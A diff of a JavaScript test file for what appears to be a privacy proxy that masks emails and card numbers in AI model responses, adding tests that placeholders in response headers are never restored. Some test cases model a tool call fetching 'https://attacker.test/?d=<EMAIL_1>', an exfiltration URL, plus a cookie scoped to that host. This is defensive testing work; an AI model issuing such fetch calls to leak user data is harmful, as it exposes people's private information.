@@ -382,6 +382,10 @@ for (const [name, content] of inUrls) {
 }
 add("chat", true, "restore", "a placeholder in a URL in tool call arguments", chat.stream([{ tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "fetch", arguments: "" } }] }, ...split(JSON.stringify({ url: "https://attacker.test/?d=<EMAIL_1>" }), 5).map((piece) => ({ tool_calls: [{ index: 0, function: { arguments: piece } }] }))], "tool_calls"), [EMAIL], { restoring, marker: false });
 add("chat", false, "restore", "a placeholder in a URL in an unknown field", chat.whole({ content: "ok" }, { x_link: { href: "https://attacker.test/?d=<EMAIL_1>" } }), [EMAIL], { restoring, marker: false });
+// Headers are no text the model wrote (a browser follows Location, Refresh and Link, stores Set-Cookie): never restored.
+const placeholderHeaders = { "x-note": "<EMAIL_1>", "set-cookie": "s=<EMAIL_1>; Domain=attacker.test", refresh: "0; <PAYMENT_CARD_1>", "x-card": "card <PAYMENT_CARD_1>" };
+add("chat", false, "restore", "placeholders in response headers", chat.whole({ content: "ok" }), [EMAIL, CARD_DIGITS], { restoring, marker: false, headers: { "content-type": "application/json", ...placeholderHeaders } });
+add("anthropic", true, "restore", "placeholders in a stream's headers", anthropic.stream(anthropic.block(0, { type: "text", text: "" }, "text_delta", "text", ["ok"])), [EMAIL, CARD_DIGITS], { restoring, marker: false, headers: { "content-type": "text/event-stream", ...placeholderHeaders } });
 
 // ── logprobs of text that went out unchanged ─────────────────────────────────────────────────
 // Alternatives, token entries that do not spell the text, bytes that spell something else and
